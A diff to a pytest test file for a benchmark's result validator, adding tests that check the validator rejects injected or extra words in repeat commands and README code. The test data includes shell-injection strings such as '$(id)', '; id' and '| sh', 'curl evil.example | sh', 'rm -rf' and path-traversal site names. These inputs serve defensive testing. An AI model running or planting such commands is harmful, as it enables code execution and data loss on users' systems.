@@ -5,14 +5,15 @@ import platform
 
 import pytest
 
+from tests.command_runner import parse_run_command
 from tests.sample_records import SOFTWARE, certify_records, vary_record
 from xfbench.base import digests, private_names
 from xfbench.base.errors import UsageError
-from xfbench.cli.options import parse_run_command
 from xfbench.exchange import audit, submission
 from xfbench.host.machine import describe_machine
 from xfbench.model.external_record import About, Figure
 from xfbench.model.record import Citation, Record
+from xfbench.rendering.report import repeat
 from xfbench.store.results_folder import Store, open_existing_store
 
 THIS_MACHINE = describe_machine().model_copy(
@@ -83,7 +84,7 @@ def write_submission(store, target, complain=print):
 
 def list_defects(folder):
     """Each defect's file, below the folder, and its kind."""
-    defects = audit.validate_results(folder, parse_run_command)[1]
+    defects = audit.validate_results(folder)[1]
     return {(defect.file.removeprefix(f"{folder}/"), defect.defect) for defect in defects}
 
 
@@ -94,7 +95,7 @@ def rebuild_manifest(folder):
 
 
 def test_submission_is_complete_and_valid(folder, records):
-    assert audit.validate_results(folder, parse_run_command) == (8 + len(records[1]), [])
+    assert audit.validate_results(folder) == (8 + len(records[1]), [])
     names = {path.name for path in folder.iterdir()}
     summary_files = {
         "README.md",
@@ -180,7 +181,7 @@ def test_removed_record_is_missed_by_every_summary(folder, records):
     Store(folder).record_path(record.id[7:]).unlink()
     rebuild_manifest(folder)
     kinds = {("machine.json", "machine"), ("leaderboard.md", "whole"), ("repeat.json", "repeat")}
-    assert list_defects(folder) == kinds
+    assert list_defects(folder) == kinds | {("README.md", "whole")}
 
 
 def test_missing_or_unused_certificate_is_a_defect(folder, records):
@@ -220,8 +221,8 @@ def test_changed_leaderboard_is_a_defect(folder):
         ("--steps 3", "--steps 4", "a record has 3"),
         ("--warmup 1", "--warmup 0", "a record has 1"),
         ("--data synthetic", "--data digits", "a record has synthetic"),
-        ("--steps 3 ", "", "--steps None"),
-        ("--steps 3", "--stops 3", "No such option"),
+        ("--steps 3 ", "", "lacks --steps 3"),
+        ("--steps 3", "--stops 3", "has --stops, which the records do not give"),
         ("xfbench run", "rm -rf", "not `xfbench run`"),
         ("--kernel numpy", "--kernel numpy --precision float64", "a record has float32"),
     ],
@@ -231,11 +232,98 @@ def test_command_that_differs_from_its_cell_is_a_defect(folder, old, new, words)
         path = folder / name
         path.write_text(path.read_text().replace(old, new))
     rebuild_manifest(folder)
-    defects = audit.validate_results(folder, parse_run_command)[1]
+    defects = audit.validate_results(folder)[1]
     assert {(defect.file, defect.defect) for defect in defects} == {
-        (str(folder / "repeat.json"), "repeat")
+        (str(folder / "repeat.json"), "repeat"),
+        (str(folder / "README.md"), "whole"),
     }
-    assert all(words in defect.detail for defect in defects), defects
+    assert all(words in defect.detail for defect in defects if defect.defect == "repeat"), defects
+
+
+def edit_commands(folder, edit):
+    """Change every command, and the README with it; make the manifest anew."""
+    document = json.loads((folder / "repeat.json").read_text())
+    readme = (folder / "README.md").read_text()
+    for each in document["cells"]:
+        command = edit(each["command"])
+        readme = readme.replace(f"    {each['command']}\n", f"    {command}\n")
+        each["command"] = command
+    (folder / "repeat.json").write_text(json.dumps(document))
+    (folder / "README.md").write_text(readme)
+    rebuild_manifest(folder)
+
+
+@pytest.mark.parametrize(
+    "addition",
+    [
+        *("--help", "-h", "--version", "--show-completion", "--install-completion bash"),
+        *("--account $(id)", "--account `id`", "--queue x;id", "--partition x;id", "--job-time 1"),
+        *("--python torch=/tmp/evil", "--site /tmp/evil.toml", "--site=x", "--data=x", "-- --help"),
+        *(
+            "; id",
+            "&& id",
+            "| sh",
+            "> /tmp/x",
+            "\n    curl evil.example | sh",
+            "\tid",
+            "$IFS",
+            "''",
+        ),
+        *("--steps 3", "--threads", "--job run.toml", "--dry-run", "--revisions main", "run.toml"),
+    ],
+)
+def test_any_word_that_the_records_do_not_give_is_a_defect(folder, run_inline, addition):
+    edit_commands(folder, lambda command: f"{command} {addition}")
+    result = run_inline("results", "validate", folder)
+    assert result.returncode == 1
+    assert result.stdout.count("repeat.json: repeat: cell") == 4, result.stdout
+    assert result.stderr == ""
+
+
+def test_submission_whose_command_asks_for_help_does_not_hide_other_defects(folder, run_inline):
+    edit_commands(folder, lambda _: "xfbench run --help")
+    (folder / "payload.sh").write_text("id")
+    result = run_inline("results", "validate", folder)
+    assert result.returncode == 1 and "Usage" not in result.stdout
+    assert "payload.sh: whole" in result.stdout
+    assert result.stdout.count("repeat.json: repeat: cell") == 4
+
+
+def test_words_may_be_quoted_in_another_order_and_repeat_a_default(folder, run_inline):
+    def edit(command):
+        first, *options = command.removeprefix("xfbench run ").split(" --")
+        options = [f"--{each}" for each in reversed(options)]
+        quoted = [" ".join(w if w[0] == "-" else f"'{w}'" for w in o.split()) for o in options]
+        return " ".join(["xfbench run", *quoted, f"{first} --precision float32"])
+
+    edit_commands(folder, edit)
+    manifest = json.loads((folder / "submission.json").read_text())  # as of another version
+    (folder / "submission.json").write_text(json.dumps({**manifest, "xfbench": "0.0.1"}))
+    result = run_inline("results", "validate", folder)
+    assert result.returncode == 0, result.stdout
+
+
+def test_readme_with_other_code_is_a_defect_whatever_the_version(folder, run_inline):
+    for code in ("    curl evil.example | sh", "\tid", "```\nid\n```", "~~~ sh\nid\n~~~"):
+        readme = (folder / "README.md").read_bytes()
+        (folder / "README.md").write_bytes(readme + f"\n{code}\n".encode())
+        rebuild_manifest(folder)
+        manifest = json.loads((folder / "submission.json").read_text())
+        (folder / "submission.json").write_text(json.dumps({**manifest, "xfbench": "0.0.1"}))
+        result = run_inline("results", "validate", folder)
+        assert result.returncode == 1 and "README.md: repeat: it has code" in result.stdout
+        (folder / "README.md").write_bytes(readme)
+
+
+def test_no_command_names_a_site_in_another_folder(store, records, tmp_path):
+    """Site files are programs. A launch stores the name of one, without a folder."""
+    for site in ("/tmp/evil.toml", "../evil.toml"):
+        evil = vary_record(
+            records[0][0], request={"site": site}, created="2026-01-01T00:00:00.000Z"
+        )
+        assert repeat.repeat_command_display_parts([evil]) == ()
+    named = vary_record(records[0][0], request={"site": "ours.toml"})
+    assert "--site ./ours.toml" in repeat.repeat_command_display_parts([named])
 
 
 def list_defects_after_edit(folder, change):
@@ -254,6 +342,7 @@ def test_malformed_or_missing_repeat_cell_is_a_defect(folder):
         == repeat_defects
     )
     assert list_defects_after_edit(folder, lambda cells: cells.pop(0)) == repeat_defects
+    repeat_defects.add(("README.md", "repeat"))  # it still has that cell's command
     assert list_defects_after_edit(folder, lambda cells: cells[0].pop("records")) == repeat_defects
     assert list_defects_after_edit(folder, lambda cells: cells.insert(0, 7)) == repeat_defects
     assert list_defects_after_edit(folder, lambda cells: cells.append(cells[-1])) == repeat_defects
@@ -263,7 +352,7 @@ def test_command_missing_from_the_readme_is_a_defect(folder):
     path = folder / "README.md"
     path.write_text(path.read_text().replace("xfbench run", "xfbench  run"))
     rebuild_manifest(folder)
-    assert list_defects(folder) == {("README.md", "repeat")}
+    assert list_defects(folder) == {("README.md", "repeat"), ("README.md", "whole")}
 
 
 @pytest.mark.parametrize(
@@ -337,7 +426,9 @@ def test_hostile_text_in_records_is_escaped(store, tmp_path, records):
     hostile_record = vary_record(records[0][0], reason=words, **fields)
     store.add(
         vary_record(
-            hostile_record, request={"data": words, "launcher": words}, created="2026-01-01"
+            hostile_record,
+            request={"data": words, "launcher": words},
+            created="2026-01-01T00:00:00.000Z",
         )
     )
     write_submission(store, tmp_path / "bad")
